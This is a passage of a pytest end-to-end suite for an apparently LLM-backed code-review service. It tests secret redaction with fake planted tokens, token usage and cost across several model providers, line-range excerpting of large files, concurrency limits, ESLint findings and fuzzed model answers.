    got = sorted((f["line"], f["rule_id"]) for f in secret_findings)
    want = sorted((line, f"secret:{kind}") for line, kind in expect)
    assert got == want, f"missing {sorted(set(want) - set(got))}, " \
                        f"unexpected {sorted(set(got) - set(want))}"
    assert leaks(json.dumps(job), values) == [], "the job document echoes a secret"

    reqs = fake.requests()
    assert len(reqs) == 1, reqs
    body = reqs[0]["body"]
    assert "[REDACTED:" in request_text(body), "the prompt shows no redaction placeholder"
    assert leaks(request_text(body) + json.dumps(body), values) == [], \
        "a planted secret reached the model"

    wait_until(lambda: pcache_keys(harness), 5, 0.05, desc="a pcache: entry")
    vals = [harness.redis_cli("GET", k) for k in pcache_keys(harness)]
    assert leaks("\n".join(vals), values) == []

    for p in harness.module_procs:
        for f in (p.log_path, p.err_path):
            log = f.read_text(errors="replace") if f.exists() else ""
            assert leaks(log, values) == [], f"{f} holds a planted secret"
    assert w.alive()


GH_TOKEN = "ghp_64ax6vm2EWmUby6RFnCakeiouTTyPatiK27F"  # planted.txt line 12 (fake)


@pytest.mark.parametrize("path,src", ids=["flake8+pylint", "eslint", "shellcheck"], argvalues=[
    ("app/token.py", f'"""Settings."""\nGITHUB_TOKEN = {GH_TOKEN}\n'),
    ("web/token.js", f"export const GITHUB_TOKEN = {GH_TOKEN};\n"),
    ("bin/token.sh", f"#!/bin/sh\necho ${GH_TOKEN}\n"),
])
def test_secret_in_linter_message_not_sent(harness, mgw, fake, clean_state, path, src):
    """A token pasted without quotes is an identifier to the linters, and
    their messages name it."""
    harness.start_worker("fast", worker_env(fake))
    job = run_job(harness, path, src, timeout=60)
    assert any(f["source"] == "secrets" and f["rule_id"] == "secret:github_token"
               for f in job["findings"]), job["findings"]
    reqs = fake.requests()
    assert len(reqs) == 1, reqs
    body = reqs[0]["body"]
    assert "[REDACTED:github_token]" in user_text(body)
    assert leaks(json.dumps(body), [GH_TOKEN]) == [], \
        "the token reached the model: " + \
        next((ln for ln in user_text(body).splitlines() if GH_TOKEN[:8] in ln), "")


def random_token(prefix: str, n: int, alphabet: str) -> str:
    return prefix + "".join(secrets.choice(alphabet) for _ in range(n))


ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"


def test_secret_in_file_path_and_language_not_sent(harness, mgw, fake, clean_state):
    """The prompt's "File: <path> (<language>)" line shows both redacted (a
    language we do not know is the client's own string, lower-cased by the
    gateway: a Stripe key fits in its 32 bytes); the job keeps and shows them
    as sent."""
    m = marker()
    token = random_token("ghp_", 36, ALNUM)
    lang_key = random_token("sk_live_", 24, "abcdefghijklmnopqrstuvwxyz0123456789")
    path = f"src/{token}.py"
    harness.start_worker("fast", worker_env(fake))
    job = run_job(harness, path, f"# {m}\nx = 1\n", language=lang_key)
    assert job["file_path"] == path and job["language"] == lang_key, job
    reqs = fake.requests(m)
    assert len(reqs) == 1, reqs
    body = reqs[0]["body"]
    text = request_text(body)
    assert "File: src/[REDACTED:github_token].py ([REDACTED:stripe_key])" in text, \
        next((ln for ln in text.splitlines() if ln.startswith("File:")), text[:300])
    assert leaks(json.dumps(body), [token, lang_key]) == [], "a secret reached the model"
    # The prompt cache's key is a digest of that prompt; what it keeps is the answer.
    wait_until(lambda: pcache_keys(harness), 5, 0.05, desc="a pcache: entry")
    vals = [harness.redis_cli("GET", k) for k in pcache_keys(harness)]
    assert leaks("\n".join(pcache_keys(harness) + vals), [token, lang_key]) == []


# ----------------------------------------------------------- 5. usage and cost --

def get_usage(harness, key, gateway=None) -> dict:
    status, _, body = harness.http("GET", "/usage", auth=key, gateway=gateway)
    assert status == 200, (status, body)
    return body


def test_usage_and_cost_anthropic(harness, mgw, fake, clean_state):
    _, _, key = harness.new_user("business", tag="usage")
    m = marker()
    fake.script([{"match": m, "text": answer([], "Fine."),
                  "usage": {"input_tokens": 1_000_000, "output_tokens": 200_000,
                            "cache_creation_input_tokens": 100_000,
                            "cache_read_input_tokens": 500_000}}])
    harness.start_worker("fast", worker_env(fake))
    jid = harness.submit(file_path="cost/a.go", file_content=go_src(m), auth=key)
    job = harness.poll_job(jid, timeout=JOB_TIMEOUT, auth=key)
    assert job["status"] == "done" and job["degraded"] is False, job
    u = job["usage"]
    assert (u["input_tokens"], u["output_tokens"], u["cache_write_tokens"],
            u["cache_read_tokens"]) == (1_000_000, 200_000, 100_000, 500_000), u
    # $3/M in, $15/M out, $3.75/M cache write, $0.30/M cache read
    assert u["cost_usd"] == pytest.approx(3 + 3 + 0.375 + 0.15, abs=0.005), u

    use = get_usage(harness, key)
    review = use["by_task"]["review"]
    assert (review["input_tokens"], review["output_tokens"], review["cache_write_tokens"],
            review["cache_read_tokens"]) == (1_000_000, 200_000, 100_000, 500_000), use
    assert review["tokens"] == 1_800_000 and use["tokens"] == 1_800_000, use
    assert float(review["cost_usd"]) == pytest.approx(6.525, abs=0.005), use
    assert float(use["cost_usd"]) == pytest.approx(6.525, abs=0.005), use
    assert (use["jobs"], use["cache_hits"], review["jobs"], review["cache_hits"]) == (1, 0, 1, 0)

    # A prompt-cache hit is a job and a cache hit, and costs nothing.
    jid2 = harness.submit(file_path="cost/a.go", file_content=go_src(m), auth=key,
                          error_log="unrelated\n")
    job2 = harness.poll_job(jid2, timeout=JOB_TIMEOUT, auth=key)
    assert job2["cached"] is True, job2
    use = get_usage(harness, key)
    assert (use["jobs"], use["cache_hits"]) == (2, 1), use
    assert use["tokens"] == 1_800_000 and float(use["cost_usd"]) == pytest.approx(6.525, abs=0.005)
    status, _, me = harness.http("GET", "/whoami", auth=key)
    assert status == 200 and me["usage"]["tokens_used"] == 1_800_000, me
    assert me["usage"]["tokens_reserved"] == 0, me
    assert fake.count(m) == 1


def test_tiny_confidence_is_stored(harness, mgw, fake, clean_state):
    """A confidence the worker accepts (a number from 0 to 1) is one
    PostgreSQL stores: ci_job_store casts it to real, which refuses what
    underflows to zero (1e-50), so the document was refused three times and
    the job stored as failed, "the result could not be stored", its
    findings lost."""
    m = marker()
    fake.script([{"match": m, "text": answer(
        [finding(2, "Possibly unused import.", severity="minor", category="maintainability",
                 confidence=1e-50)], "One doubtful finding.")}])
    harness.start_worker("fast", worker_env(fake, CODEINSIGHT_RETRY_MAX_MS="800"))
    jid = harness.submit(file_path="conf/a.go", file_content=go_src(m))
    job = harness.poll_job(jid, timeout=JOB_TIMEOUT)
    assert job["status"] == "done", job
    assert [f["line"] for f in model_findings(job)] == [2], job["findings"]
    assert harness.psql(f"SELECT status FROM jobs WHERE job_id = '{jid}'") == "done"


def test_openrouter_wire_format_and_cost(harness, fake, clean_state):
    gw = harness.start_gateway({"CODEINSIGHT_RATE_LIMIT_SCALE": "10000",
                                **provider_env(fake, "openrouter")}, default=False)
    _, _, key = harness.new_user("business", tag="openrouter")
    m = marker()
    fake.script([{"match": m, "api": "openrouter", "cost": 0.4321,
                  "text": answer([OK_FINDING], "Via OpenRouter."),
                  "usage": {"prompt_tokens": 3000, "completion_tokens": 400,
                            "prompt_tokens_details": {"cached_tokens": 1000}}}])
    harness.start_worker("fast", worker_env(fake, "openrouter"))
    jid = harness.submit(file_path="or/a.go", file_content=go_src(m), gateway=gw, auth=key)
    job = harness.poll_job(jid, timeout=JOB_TIMEOUT, gateway=gw, auth=key)
    assert job["status"] == "done" and job["degraded"] is False, job
    assert job["provider"] == "openrouter" and job["model"] == "anthropic/claude-sonnet-4.5", job
    assert [f["message"] for f in model_findings(job)] == ["Scenario answer."], job
    u = job["usage"]
    assert (u["input_tokens"], u["cache_read_tokens"], u["output_tokens"],
            u["cache_write_tokens"]) == (2000, 1000, 400, 0), u
    assert u["cost_usd"] == pytest.approx(0.4321, abs=1e-6), \
        f"OpenRouter's own cost is not used: {u}"
    use = get_usage(harness, key, gateway=gw)
    assert float(use["cost_usd"]) == pytest.approx(0.4321, abs=1e-6), use
    assert use["by_task"]["review"]["input_tokens"] == 2000, use

    reqs = fake.requests(m)
    assert len(reqs) == 1, reqs
    r = reqs[0]
    assert r["api"] == "openrouter" and r["path"] == "/api/v1/chat/completions", r
    assert r["headers"].get("authorization") == f"Bearer {OPENROUTER_KEY}"
    assert "x-api-key" not in r["headers"]
    b = r["body"]
    assert b["model"] == "anthropic/claude-sonnet-4.5" and b["max_tokens"] == 2048, b
    assert [x["role"] for x in b["messages"]] == ["system", "user"], b["messages"]
    assert b.get("usage") == {"include": True}, b


def test_openai_compatible_wire_format(harness, fake, clean_state):
    gw = harness.start_gateway({"CODEINSIGHT_RATE_LIMIT_SCALE": "10000",
                                **provider_env(fake, "openai")}, default=False)
    m = marker()
    fake.script([{"match": m, "api": "openai", "text": answer([OK_FINDING], "Via OpenAI."),
                  "usage": {"prompt_tokens": 500, "completion_tokens": 40,
                            "prompt_tokens_details": {"cached_tokens": 100}}}])
    harness.start_worker("fast", worker_env(fake, "openai"))
    jid = harness.submit(file_path="oa/a.go", file_content=go_src(m), gateway=gw)
    job = harness.poll_job(jid, timeout=JOB_TIMEOUT, gateway=gw)
    assert job["status"] == "done" and job["degraded"] is False, job
    assert job["provider"] == "openai" and job["model"] == "e2e-coder-7b", job
    assert job["summary"] == "Via OpenAI.", job
    u = job["usage"]
    assert (u["input_tokens"], u["cache_read_tokens"], u["output_tokens"],
            u["cache_write_tokens"]) == (400, 100, 40, 0), u
    assert u["cost_usd"] == 0, f"no price is configured for e2e-coder-7b: {u}"
    reqs = fake.requests(m)
    assert len(reqs) == 1, reqs
    r = reqs[0]
    assert r["api"] == "openai" and r["path"] == "/v1/chat/completions", r
    assert r["headers"].get("authorization") == f"Bearer {OPENAI_KEY}"
    b = r["body"]
    assert b["model"] == "e2e-coder-7b", b
    assert [x["role"] for x in b["messages"]] == ["system", "user"], b["messages"]
    assert "usage" not in b, b


def test_offline_static_only(harness, fake, clean_state):
    gw = harness.start_gateway({"CODEINSIGHT_RATE_LIMIT_SCALE": "10000",
                                **provider_env(fake, "offline")}, default=False)
    harness.start_worker("fast", worker_env(fake, "offline"))
    src = "import os\n\n\ndef f():\n    return 1\n"
    jid = harness.submit(file_path="off/a.py", file_content=src, gateway=gw)
    job = harness.poll_job(jid, timeout=JOB_TIMEOUT, gateway=gw)
    assert job["status"] == "done", job
    assert job["degraded"] is True and "offline" in (job["degraded_reason"] or ""), job
    assert ("lint:flake8", 1, "F401") in {(f["source"], f["line"], f["rule_id"])
                                          for f in job["findings"]}, job["findings"]
    assert model_findings(job) == []
    assert job["cached"] is False
    u = job["usage"]
    assert (u["input_tokens"], u["output_tokens"], u["cost_usd"]) == (0, 0, 0), u
    assert fake.count() == 0


# ------------------------------------------------------- 6. context and ranges --

BIG_LINES = 20000


def big_file() -> str:
    return "".join(f"var v{i} = {i} * {i % 7}\n" for i in range(1, BIG_LINES + 1))


def excerpt_lines(user: str) -> dict[int, str]:
    """{line number: text} of the numbered excerpt in a prompt."""
    assert "<excerpt>\n" in user and "</excerpt>" in user, user[-300:]
    part = user.split("<excerpt>\n", 1)[1].rsplit("</excerpt>", 1)[0]
    out = {}
    for row in part.splitlines():
        if row == "...":
            continue
        num, sep, rest = row.partition("\t")
        assert sep and num.isdigit(), f"not an excerpt line: {row!r}"
        out[int(num)] = rest
    return out


def range_lines(ranges) -> list[int]:
    out = []
    for first, last in ranges:
        assert 1 <= first <= last, ranges
        out += range(first, last + 1)
    return out


def assert_cover(job, total):
    reviewed = range_lines(job["reviewed_ranges"])
    skipped = range_lines(job["skipped_ranges"])
    both = sorted(reviewed + skipped)
    assert both == list(range(1, total + 1)), \
        f"reviewed {job['reviewed_ranges']} + skipped {job['skipped_ranges']} " \
        f"do not cover 1..{total} exactly once"
    return set(reviewed)


def test_large_file_ranges(harness, mgw, fake, clean_state):
    src = big_file()
    lines = src.splitlines()
    m = marker()
    old = lines[:]
    old[9999] = "var v10000 = 0"
    diff = unified(f"big/{m}_diff.go", "\n".join(old) + "\n", src)
    hunk = [h for h in diff.splitlines() if h.startswith("@@")]
    assert len(hunk) == 1, hunk
    new_start, new_count = (int(x) for x in hunk[0].split("+")[1].split(" ")[0].split(","))
    harness.start_worker("fast", worker_env(fake, CODEINSIGHT_INPUT_MAX_BYTES=20000))
    ids = {
        "whole": harness.submit(file_path=f"big/{m}_whole.go", file_content=src),
        "diff": harness.submit(file_path=f"big/{m}_diff.go", file_content=src, diff=diff),
        "cursor": harness.submit(file_path=f"big/{m}_cursor.go", file_content=src,
                                 cursor_context={"line": 15000, "end_line": 15002}),
    }
    jobs = harness.poll_jobs(ids.values(), timeout=60)
    want = {"diff": [[new_start - 5, new_start + new_count - 1 + 5]],
            "cursor": [[15000 - 20, 15002 + 20]]}
    for name, jid in ids.items():
        job = jobs[jid]
        assert job["status"] == "done" and job["degraded"] is False, (name, job)
        reviewed = assert_cover(job, BIG_LINES)
        if name in want:
            assert job["reviewed_ranges"] == want[name], (name, job["reviewed_ranges"])
        else:
            assert job["reviewed_ranges"][0][0] == 1 and len(job["reviewed_ranges"]) == 1, job
            assert 100 < len(reviewed) < BIG_LINES, job["reviewed_ranges"]
        reqs = fake.requests(f"{m}_{name}")
        assert len(reqs) == 1, (name, len(reqs))
        user = user_text(reqs[0]["body"])
        shown = excerpt_lines(user)
        assert set(shown) == reviewed, \
            f"{name}: the prompt shows lines other than reviewed_ranges " \
            f"{job['reviewed_ranges']}: {sorted(set(shown) ^ reviewed)[:10]}"
        for n, t in shown.items():
            assert t == lines[n - 1], (name, n, t)
        code = user.split("<excerpt>\n", 1)[1].rsplit("</excerpt>", 1)[0]
        assert len(code.encode()) <= 20000, (name, len(code.encode()))
        if name == "diff":
            assert "<diff>" in user and "+var v10000 = 10000 * 4" in user, user[:600]


def test_prompt_notes_skipped_lines(harness, mgw, fake, clean_state):
    m = marker()
    src = f"// {m}\n" + "".join(f"var w{i} = {i}\n" for i in range(2, 3001))
    harness.start_worker("fast", worker_env(fake, CODEINSIGHT_INPUT_MAX_BYTES=1000))
    job = run_job(harness, "big/note.go", src)
    assert job["skipped_ranges"] and len(job["reviewed_ranges"]) == 1, job
    last = job["reviewed_ranges"][0][1]
    user = user_text(fake.requests(m)[0]["body"])
    assert f"Note: only lines 1-{last} of 3000 are shown" in user, user[:200]


def test_findings_on_lines_the_model_never_saw(harness, mgw, fake, clean_state):
    """A cursor review shows the model lines 130-170 only (reviewed_ranges).
    A finding about line 10, never shown, is dropped, fix and all: its fix
    would overwrite code the model never read. A finding on a shown line
    keeps its fix; one whose range runs past line 170 stays, without the
    fix that would change line 171. Before, only the file's end was checked
    and the fix of line 10 was kept."""
    m = marker()
    src = go_vars(m, 300)
    fake.script([{"match": m, "api": "anthropic",
                  "text": answer([finding(10, "v10 is shadowed.", "var v10 = 0 // fixed"),
                                  finding(150, "v150 is off.", "var v150 = 0 // fixed"),
                                  finding(170, "v170 and v171 clash.",
                                          "var v170 = 0\nvar v171 = 1", end_line=171)],
                                 "Three issues.")}])
    harness.start_worker("fast", worker_env(fake))
    job = run_job(harness, f"{m}/blind.go", src, cursor_context={"line": 150, "end_line": 150})
    assert job["reviewed_ranges"] == [[130, 170]], job["reviewed_ranges"]
    user = user_text(fake.requests(m)[0]["body"])
    assert "var v10 = 10" not in user and "var v171 = 171" not in user
    got = {f["line"]: f for f in model_findings(job)}
    assert sorted(got) == [150, 170], job["findings"]
    assert "+var v150 = 0 // fixed\n" in got[150]["fix"], got[150]
    assert "fix" not in got[170], got[170]


# ------------------------------------------------------- 7. 300 calls in flight --

INFLIGHT = 300


def submit_many(harness, key, m, n, threads=10) -> list[str]:
    """n distinct Go review jobs (no linter), submitted from several threads."""
    ids: list[str] = []
    errors: list[str] = []
    lock = threading.Lock()
    per = -(-n // threads)

    def run(lo, hi):
        for i in range(lo, hi):
            try:
                jid = harness.submit(file_path=f"many/{m}_{i}.go", file_content=go_src(m, i),
                                     auth=key)
                with lock:
                    ids.append(jid)
            except Exception as e:  # noqa: BLE001 - reported below
                with lock:
                    errors.append(repr(e))

    ts = [threading.Thread(target=run, args=(k * per, min(n, (k + 1) * per)))
          for k in range(threads)]
    for t in ts:
        t.start()
    for t in ts:
        t.join(60)
    assert not errors, errors[:3]
    assert len(ids) == n, len(ids)
    return ids


def wait_many_done(harness, m, n, timeout):
    q = f"SELECT count(*) FROM jobs WHERE status = 'done' AND file_path LIKE 'many/{m}_%'"
    wait_until(lambda: harness.psql_int(q) == n, timeout, 0.5, desc=f"{n} jobs done")
    assert harness.psql_int(
        f"SELECT count(*) FROM jobs WHERE file_path LIKE 'many/{m}_%' AND degraded") == 0


def test_300_model_calls_in_flight(harness, mgw, fake, clean_state):
    """300 jobs waiting when the worker starts: all 300 calls at once."""
    _, _, key = harness.new_user("business", tag="inflight")
    fake.default({"latency_ms": 3000})
    m = marker()
    submit_many(harness, key, m, INFLIGHT)
    assert harness.redis_int("XLEN", STREAM_FAST) == INFLIGHT
    harness.start_worker("fast", worker_env(fake, CODEINSIGHT_MAX_INFLIGHT=INFLIGHT,
                                            CODEINSIGHT_LLM_TIMEOUT_MS=30000))
    wait_many_done(harness, m, INFLIGHT, 40)
    st = fake.stats()
    assert fake.count(m) == INFLIGHT, st
    assert st["max_in_flight"] == INFLIGHT, \
        f"at most {st['max_in_flight']} of {INFLIGHT} model calls were in flight at once"


def test_300_model_calls_in_flight_warm(harness, mgw, fake, clean_state):
    """Once the worker has a connection to the model, 300 jobs make 300
    calls at once, never more than CODEINSIGHT_MAX_INFLIGHT. (The latency
    is longer than the time it takes to submit 300 jobs.)"""
    _, _, key = harness.new_user("business", tag="inflight-warm")
    harness.start_worker("fast", worker_env(fake, CODEINSIGHT_MAX_INFLIGHT=INFLIGHT,
                                            CODEINSIGHT_LLM_TIMEOUT_MS=30000))
    run_job(harness, "many/warmup.go", go_src(marker()))
    fake.reset()
    fake.default({"latency_ms": 8000})
    m = marker()
    submit_many(harness, key, m, INFLIGHT)
    seen: dict = {}

    def all_in_flight():
        seen.update(fake.stats())
        return seen["max_in_flight"] >= INFLIGHT

    try:
        wait_until(all_in_flight, 20, 0.2, desc=f"{INFLIGHT} model calls in flight")
    except AssertionError:
        pytest.fail(f"at most {seen.get('max_in_flight')} of {INFLIGHT} model calls were in "
                    f"flight at once ({seen.get('requests_total')} arrived)")
    wait_many_done(harness, m, INFLIGHT, 40)
    st = fake.stats()
    assert st["max_in_flight"] == INFLIGHT, f"more than CODEINSIGHT_MAX_INFLIGHT: {st}"
    assert fake.count(m) == INFLIGHT


# ------------------------------------------------------------- 9. ESLint --

JS_BAD = "const a = 1;\nfunction f(x) { return y + 1; }\nif (a == 2) { debugger; }\n"
TS_BAD = "let n: any = 3;\nconst unused = 2;\nexport function g(s: string) { return s.length }\n"


@pytest.mark.parametrize("path,src,want", ids=["js", "ts"], argvalues=[
    ("web/bad.js", JS_BAD, {(2, "no-unused-vars"), (2, "no-undef"), (3, "no-debugger")}),
    ("web/bad.ts", TS_BAD, {(1, "prefer-const"), (1, "@typescript-eslint/no-explicit-any"),
                            (2, "@typescript-eslint/no-unused-vars")}),
])
def test_eslint_findings(harness, mgw, fake, clean_state, path, src, want):
    harness.start_worker("fast", worker_env(fake))
    job = run_job(harness, path, src, timeout=60)
    eslint = [lt for lt in job["linters"] if lt["tool"] == "eslint"]
    assert len(eslint) == 1 and eslint[0]["status"] == "ok", (job["linters"], job["notes"])
    got = {(f["line"], f["rule_id"]) for f in job["findings"] if f["source"] == "lint:eslint"}
    assert want <= got, f"missing {sorted(want - got)}; got {sorted(got)}"
    assert eslint[0]["findings"] >= len(want), eslint
    assert job["degraded"] is False and job["provider"] == "anthropic", job


# ------------------------------------------------ mutated model answers --

FUZZ_ANSWERS = 40


def test_mutated_model_answers(harness, mgw, fake, clean_state):
    """Answers edited at random (tests/e2e/mutate.py, fixed seed), the
    repair attempt answered by the default step or by the same broken text:
    every job still ends, done with findings of the documented shape or
    failed with a code, and the worker stays up."""
    rnd = random.Random(20261122)
    m = marker()
    path = "fuzz/value.go"
    old = go_src(m)
    fixed = old.replace("xs[0] + len(xs)", "len(xs)")
    seeds = [answer([{"line": 5, "end_line": 5, "severity": "major", "category": "correctness",
                      "message": "xs[0] panics on an empty slice.", "confidence": 0.8,
                      "fix": unified(path, old, fixed)}], "One panic."),
             answer([], "Nothing to report."),
             answer([{"line": 4, "severity": "minor", "category": "performance", "message": "m"},
                     {"line": 9, "severity": "note", "category": "bug", "message": "n"}], "s")]
    steps = []
    for i in range(FUZZ_ANSWERS):
        text = mutate(rnd, rnd.choice(seeds).encode()).decode("utf-8", "replace")
        steps.append({"match": f"{m} {i}\n", "text": text, "times": 1 + i % 2})
    fake.script(steps)
    w = harness.start_worker("fast", worker_env(fake))
    ids = [harness.submit(file_path=f"fuzz/{i}.go", file_content=go_src(m, i))
           for i in range(FUZZ_ANSWERS)]
    jobs = harness.poll_jobs(ids, timeout=120)
    outcomes = set()
    for job in jobs.values():
        assert job["status"] in ("done", "failed"), job
        outcomes.add((job["status"], job.get("degraded")))
        if job["status"] == "failed":
            assert (job.get("error") or {}).get("code"), job
            continue
        for f in job["findings"]:
            assert isinstance(f["line"], int) and f["line"] >= 1, f
            assert f["severity"] in SEVERITIES, f
            assert isinstance(f["message"], str) and f["message"], f
    assert w.alive(), w.tail(20)
    # The edits reach past the JSON syntax: some answers are still taken.
    assert ("done", False) in outcomes, outcomes
